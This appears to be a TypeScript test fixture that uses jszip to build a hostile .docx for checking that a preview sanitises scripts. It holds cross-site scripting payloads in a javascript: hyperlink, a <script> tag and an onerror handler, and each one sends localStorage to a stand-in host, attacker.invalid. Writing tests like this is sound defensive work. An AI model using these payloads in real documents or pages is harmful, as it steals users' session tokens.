/**
 * A hostile .docx, built with jszip (no binary in the repository): normal text, a hyperlink whose
 * target is a javascript: address, and a `w:altChunk` HTML part with a <script>, an event
 * handler and a javascript: link. Each would mark the page (a global and the title) and send the
 * session token to another origin if it ran.
 */
import JSZip from 'jszip';
import { DOCX_NAMESPACES } from '../upload/docx';

/** The text the preview must still show. */
export const NORMAL_TEXT = '季度报告正文：销售额同比增长百分之二十五';
/** The hyperlink whose address is javascript:. */
export const SCRIPT_LINK_TEXT = '点击查看详情';
/** The altChunk's own harmless text (shown, sanitised, in its sandboxed frame). */
export const ALT_CHUNK_TEXT = '附加的 HTML 段落';
/** The origin the script would send the token to. */
export const ATTACKER_ORIGIN = 'https://attacker.invalid';
/** The global any of the hostile parts sets when it runs. */
export const SCRIPT_FLAG = '__previewScriptRan';
/** The title any of the hostile parts sets when it runs. */
export const PWNED_TITLE = 'pwned';

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** The statement each hostile part runs: mark the window it reaches and send the token off. */
function payload(where: string, target: string): string {
  return (
    `${target}.${SCRIPT_FLAG}='${where}';${target}.document.title='${PWNED_TITLE}';` +
    `new Image().src='${ATTACKER_ORIGIN}/steal?from=${where}&t='+encodeURIComponent(JSON.stringify(${target}.localStorage))`
  );
}

const attribute = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');

const ALT_CHUNK_HTML =
  '<html><head><title>chunk</title></head><body>' +
  `<p>${ALT_CHUNK_TEXT}</p>` +
  `<script>${payload('altChunk-script', 'parent')}</script>` +
  `<img src="x" onerror="${attribute(payload('altChunk-onerror', 'parent'))}">` +
  `<a id="chunk-link" href="javascript:${attribute(payload('altChunk-link', 'parent'))}">块内链接</a>` +
  '</body></html>';

export async function buildHostileDocx(): Promise<Uint8Array<ArrayBuffer>> {
  const zip = new JSZip();
  zip.file(
    '[Content_Types].xml',
    XML +
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
      '<Default Extension="xml" ContentType="application/xml"/>' +
      '<Default Extension="html" ContentType="text/html"/>' +
      '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
      '</Types>',
  );
  zip.file(
    '_rels/.rels',
    XML +
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      `<Relationship Id="rId1" Type="${REL}/officeDocument" Target="word/document.xml"/>` +
      '</Relationships>',
  );
  zip.file(
    'word/_rels/document.xml.rels',
    XML +
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      `<Relationship Id="rIdLink" Type="${REL}/hyperlink" TargetMode="External" Target="javascript:${attribute(payload('hyperlink', 'window'))}"/>` +
      `<Relationship Id="rIdChunk" Type="${REL}/aFChunk" Target="chunk.html"/>` +
      '</Relationships>',
  );
  zip.file('word/chunk.html', ALT_CHUNK_HTML);
  zip.file(
    'word/document.xml',
    `${XML}<w:document ${DOCX_NAMESPACES}><w:body>` +
      `<w:p><w:r><w:t xml:space="preserve">${NORMAL_TEXT}</w:t></w:r></w:p>` +
      `<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>${SCRIPT_LINK_TEXT}</w:t></w:r></w:hyperlink></w:p>` +
      '<w:altChunk r:id="rIdChunk"/>' +
      '</w:body></w:document>',
  );
  return new Uint8Array(await zip.generateAsync({ type: 'arraybuffer' }));
}
